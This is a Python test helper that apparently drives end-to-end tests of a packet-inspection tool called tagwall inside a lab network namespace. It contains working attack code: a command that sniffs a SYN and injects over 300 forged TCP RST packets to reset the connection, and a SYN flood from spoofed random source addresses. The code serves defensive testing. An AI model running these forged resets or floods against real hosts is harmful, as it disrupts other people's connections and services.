#!/usr/bin/python3
"""The attacker's and the victims' tools for tests/e2e/forged-rst.sh and syn-flood.sh; each command runs
inside a lab namespace (scripts/netns-lab.sh).  Frames are built with struct, checksums included, and
sent through an AF_PACKET socket: no scapy (its per-packet send is far too slow for a flood).

  serve ADDR PORT FILE SECONDS       accept one TCP connection and send FILE over about SECONDS (paced)
  sniff-syn IFACE DST PORT TIMEOUT READY
                                     wait for a SYN to DST:PORT leaving IFACE; print "SPORT NEXT_SEQ"
                                     (creates the file READY once it listens)
  forge-rsts IFACE SRC_MAC DST_MAC SRC DST SPORT DPORT NEXT_SEQ
                                     the forged RSTs of forged-rst.sh (see rst_plan); prints the counts
                                     tagwall must give them: "out_of_window N in_window M"
  syn-flood IFACE SRC_MAC DST_MAC DST DPORT COUNT
                                     COUNT SYNs from random sources in 198.19.0.0/16 and random ports,
                                     prebuilt, sent in bursts of 128
"""
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def tcp_frame(src_mac, dst_mac, src, dst, sport, dport, seq, ack, flags, window=65535):
    """Ethernet/IPv4/TCP, no payload, valid checksums (the receiving stack checks them)."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq % 2**32, ack % 2**32, 5 << 4, flags, window, 0, 0)
    csum = checksum(s + d + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", csum) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, s, d)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return mac_bytes(dst_mac) + mac_bytes(src_mac) + b"\x08\x00" + ip + tcp


def raw_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def cmd_serve(addr, port, path, seconds):
    data = open(path, "rb").read()
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((addr, int(port)))
    listener.listen(1)
    conn, _ = listener.accept()
    chunk = 16384
    pause = float(seconds) / (len(data) / chunk)
    for i in range(0, len(data), chunk):
        conn.sendall(data[i:i + chunk])
        time.sleep(pause)
    conn.close()
    return 0


def cmd_sniff_syn(iface, dst, port, timeout, ready):
    s = raw_socket(iface)
    s.settimeout(0.5)
    open(ready, "w").close()
    want_dst, want_port = socket.inet_aton(dst), int(port)
    deadline = time.monotonic() + float(timeout)
    while time.monotonic() < deadline:
        try:
            frame = s.recv(2048)
        except TimeoutError:
            continue
        if len(frame) < 54 or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[30:34] != want_dst:
            continue
        tcp = frame[14 + (frame[14] & 0x0F) * 4:]
        sport, dport, seq = struct.unpack("!HHI", tcp[:8])
        if dport == want_port and tcp[13] & 0x12 == 0x02:  # SYN without ACK
            print(sport, (seq + 1) % 2**32, flush=True)
            return 0
    print("no SYN seen", file=sys.stderr)
    return 1


def rst_plan(next_seq):
    """The forged RSTs, as (sequence number, where tagwall must count it).  next_seq is the sender's next
    sequence number: the client sends no data during the transfer, so it stays ISN + 1, and tagwall's
    window for its segments is [next_seq - W, next_seq + W] with W the server's receive window (about
    64 KiB: the server receives nothing, its window never grows).  Offsets within 32 KiB are in it,
    offsets beyond 2^23 far out of it; none is 0 (an exact RST would rightly close the connection)."""
    def where(seq):
        d = (seq - next_seq + 2**31) % 2**32 - 2**31
        assert d != 0 and (abs(d) <= 32768 or abs(d) >= 2**23), d
        return "in_window" if abs(d) <= 32768 else "out_of_window"

    plan = []
    if where_zero_is_clear(next_seq):
        plan.append(0)                                   # sequence number 0
    plan.append((next_seq + 2**30) % 2**32)              # far out of the window
    plan.append((next_seq + 1000) % 2**32)               # in the window, not exact
    step = 2**32 // 300                                  # a blind sweep of the sequence space: one
    plan += [(next_seq + 777 + k * step) % 2**32 for k in range(300)]  # in the window, 299 out of it
    return [(seq, where(seq)) for seq in plan]


def where_zero_is_clear(next_seq):
    d = (0 - next_seq + 2**31) % 2**32 - 2**31
    return abs(d) >= 2**23  # else (1 chance in 256) sequence 0 is too near the window to say: not sent


def cmd_forge_rsts(iface, src_mac, dst_mac, src, dst, sport, dport, next_seq):
    s = raw_socket(iface)
    plan = rst_plan(int(next_seq))
    for seq, _ in plan:
        s.send(tcp_frame(src_mac, dst_mac, src, dst, int(sport), int(dport), seq, 0, 0x04, 0))
        time.sleep(0.002)
    counts = {"out_of_window": 0, "in_window": 0}
    for _, where in plan:
        counts[where] += 1
    print(f"out_of_window {counts['out_of_window']} in_window {counts['in_window']}")
    return 0


def cmd_syn_flood(iface, src_mac, dst_mac, dst, dport, count):
    rng = random.Random(5961)
    frames = []
    for _ in range(int(count)):
        src = f"198.19.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        frames.append(tcp_frame(src_mac, dst_mac, src, dst, rng.randrange(1024, 65536), int(dport),
                                rng.randrange(2**32), 0, 0x02))
    s = raw_socket(iface)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    start = time.monotonic()
    for i in range(0, len(frames), 128):
        for f in frames[i:i + 128]:
            s.send(f)
        time.sleep(0.003)  # let tagwall's af_packet ring (512 frames) drain between bursts
    print(f"sent {len(frames)} SYNs in {time.monotonic() - start:.2f} s")
    return 0


COMMANDS = {"serve": cmd_serve, "sniff-syn": cmd_sniff_syn, "forge-rsts": cmd_forge_rsts, "syn-flood": cmd_syn_flood}

if __name__ == "__main__":
    sys.exit(COMMANDS[sys.argv[1]](*sys.argv[2:]))
